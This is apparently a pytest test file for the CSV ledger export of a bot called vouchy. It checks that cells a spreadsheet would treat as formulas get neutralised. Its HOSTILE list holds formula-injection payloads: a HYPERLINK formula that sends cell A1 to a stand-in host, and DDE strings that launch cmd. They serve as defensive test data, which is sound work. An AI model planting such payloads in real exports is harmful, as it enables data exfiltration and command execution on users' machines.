"""``python -m vouchy export ledger --guild ID [--out FILE]``: the ledger as CSV, safe to open in
a spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from vouchy.app import Vouchy, load_config
from vouchy.cli import main
from vouchy.cli.ops import LEDGER_COLUMNS
from vouchy.core.spreadsheet import spreadsheet_safe
from vouchy.store.durability.lock import DataLock
from vouchy.store.operations import Move, Op

GUILD = 111_111_111_111_111_111
OTHER_GUILD = 222_222_222_222_222_222
ALICE = 300_000_000_000_000_001
BOB = 300_000_000_000_000_002

# What a spreadsheet would run: a formula, DDE, and the other characters that start one.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def make_ledger(data: Path) -> None:
    async def go() -> None:
        async with Vouchy(load_config(env={"VOUCHY_DATA_DIR": str(data)})) as app:
            await app.points.member(GUILD, ALICE).earn(40, "interaction-1", reason="first vouch")
            await app.points.member(GUILD, ALICE).transfer(BOB, 15, "interaction-2")
            for n, text in enumerate(HOSTILE):
                await app.writer.submit(
                    Op(
                        guild_id=GUILD,
                        user_id=BOB,
                        reference=text if n == 0 else f"interaction-h{n}",
                        name="points.adjust.add",
                        moves=(Move(user_id=BOB, kind="admin_adjust", delta=1),),
                        reason=text,
                        acting_user_id=ALICE,
                    )
                )
            await app.points.member(OTHER_GUILD, ALICE).earn(1, "elsewhere")

    asyncio.run(go())


def export(data: Path, capsys, *extra: str) -> list[dict[str, str]]:
    capsys.readouterr()
    assert main(["--data", str(data), "export", "ledger", "--guild", str(GUILD), *extra]) == 0
    text = capsys.readouterr().out
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_writes_the_guilds_ledger_oldest_first_with_a_header(tmp_path, capsys):
    make_ledger(tmp_path)
    rows = export(tmp_path, capsys)
    assert list(rows[0]) == list(LEDGER_COLUMNS)
    assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)
    assert {r["guild_id"] for r in rows} == {str(GUILD)}
    kinds = [r["kind"] for r in rows]
    assert kinds == ["start", "earn", "start", "transfer_out", "transfer_in"] + ["admin_adjust"] * 6
    first = rows[1]
    assert (first["user_id"], first["delta"], first["balance_after"]) == (str(ALICE), "40", "65")
    assert first["created_at"].endswith("Z") and first["created_at_ms"].isdigit()


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path, capsys):
    make_ledger(tmp_path)
    rows = export(tmp_path, capsys)
    reasons = [r["reason"] for r in rows if r["kind"] == "admin_adjust"]
    assert reasons == ["'" + text for text in HOSTILE]
    assert rows[5]["reference"] == "'" + HOSTILE[0]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row


def test_numbers_stay_numbers_a_negative_delta_is_not_quoted(tmp_path, capsys):
    make_ledger(tmp_path)
    rows = export(tmp_path, capsys)
    debit = next(r for r in rows if r["kind"] == "transfer_out")
    assert debit["delta"] == "-15"


def test_export_to_a_file_writes_it_whole(tmp_path, capsys):
    make_ledger(tmp_path)
    out = tmp_path / "ledger.csv"
    assert export(tmp_path, capsys, "--out", str(out)) == []
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 11
    assert not list(tmp_path.glob(".ledger.csv.*"))


def test_export_reads_while_the_bot_holds_the_data_directory(tmp_path, capsys):
    make_ledger(tmp_path)
    lock = DataLock(tmp_path).acquire()
    try:
        assert len(export(tmp_path, capsys)) == 11
    finally:
        lock.release()


def test_export_without_a_database_says_where_it_looked(tmp_path, capsys):
    assert main(["--data", str(tmp_path), "export", "ledger", "--guild", str(GUILD)]) == 2
    assert "no database at" in capsys.readouterr().err


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("vouch for 3 items", "vouch for 3 items"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_prefixes_only_cells_that_start_a_formula(value, safe):
    assert spreadsheet_safe(value) == safe
